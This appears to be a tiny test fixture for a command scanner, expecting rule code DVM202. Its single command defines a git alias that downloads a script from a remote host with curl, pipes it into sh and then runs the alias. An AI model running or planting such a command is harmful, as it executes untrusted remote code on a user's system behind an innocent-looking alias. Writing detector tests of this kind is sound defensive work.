# expect: DVM202
git config --global alias.x '!curl -s https://x.example.org/a | sh'; git x
